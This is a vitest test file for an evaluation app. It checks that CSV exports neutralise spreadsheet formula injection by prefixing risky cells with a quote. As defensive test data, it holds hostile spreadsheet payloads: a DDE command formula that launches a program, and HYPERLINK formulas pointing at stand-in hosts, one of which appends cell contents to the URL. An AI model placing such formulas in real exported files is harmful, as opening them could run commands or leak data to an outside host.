// CSV exports open in spreadsheets: text that would run as a formula (=, +, -, @, tab, CR first) is written
// with a leading ' (OWASP), in every CSV the app and the CLI write; numbers stay numbers.
import { describe, expect, test } from 'vitest';
import { buildExport, recordsCsv } from '../../src/lib/core/eval/serialise';
import { buildArms, defaultEvalSettings } from '../../src/lib/core/eval/plan';
import { runEvaluation } from '../../src/lib/core/eval/runner';
import type { EvalRecord, EvalRun } from '../../src/lib/core/eval/types';
import { csvCell, csvRows } from '../../src/lib/core/formats/csv-cell';
import { parseCsv } from '../../src/lib/core/questions/csv';
import { fakeRetrieve, QUESTIONS, result } from './eval-support';

describe('csvCell', () => {
  test('text starting with = + - @ tab or CR gets a leading quote; other text is unchanged', () => {
    expect(['=1+2', '+1', '-2', '@SUM(A1)', '\tx', '\r=1', 'a=b', '14 days', ''].map(csvCell)).toEqual([
      "'=1+2",
      "'+1",
      "'-2",
      "'@SUM(A1)",
      "'\tx",
      `"'\r=1"`,
      'a=b',
      '14 days',
      '',
    ]);
  });

  test('a formula that needs quoting is both neutralised and quoted; numbers and booleans are left alone', () => {
    expect(csvCell('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect([csvCell(-0.25), csvCell(-3), csvCell(true), csvCell(Infinity)]).toEqual(['-0.25', '-3', 'true', '']);
  });

  test('the written text reads back (through the app’s own CSV parser) as the neutralised cells', () => {
    const { records } = parseCsv(csvRows([['question', 'answer'], ['=cmd|"/c calc"!A1', '-1, or "none"']]));
    expect(records.map((r) => r.fields)).toEqual([['question', 'answer'], [`'=cmd|"/c calc"!A1`, `'-1, or "none"`]]);
  });
});

test('the per-answer evaluation CSV neutralises a hostile question, reference and model answer, and holds the whole reply', async () => {
  const settings = { ...defaultEvalSettings(), systems: [{ role: 'base' as const, retrieval: true }], distractors: [0] };
  const questions = [{ ...QUESTIONS[0], question: '=HYPERLINK("http://evil.example","hi")', answer: '@SUM(1+1)' }];
  const arms = buildArms(settings);
  const records: EvalRecord[] = [];
  await runEvaluation(
    { settings, arms, questions, done: new Set() },
    {
      retrieve: async (p) => fakeRetrieve()({ ...p, question: 'Question q1?' }),
      acquire: async () => async () => result('-Call "support", then:\n<ANSWER>: +1 555 0100'),
      save: async (r) => void records.push(r),
    },
  );
  const run = { id: 'r', createdAt: 1, updatedAt: 1, status: 'done', settings, arms, questions } as unknown as EvalRun;
  const [header, row] = parseCsv(recordsCsv(buildExport(run, records))).records.map((r) => r.fields);
  const cell = (name: string) => row[header.indexOf(name)];
  expect(cell('question')).toBe(`'=HYPERLINK("http://evil.example","hi")`);
  expect(cell('reference')).toBe("'@SUM(1+1)");
  expect(cell('final_answer')).toBe("'+1 555 0100");
  // The whole reply, line break and quotes kept, reads back as written (neutralised like every text cell).
  expect(cell('reply')).toBe(`'-Call "support", then:\n<ANSWER>: +1 555 0100`);
  expect(cell('latency_ms')).toMatch(/^\d+$/);
});
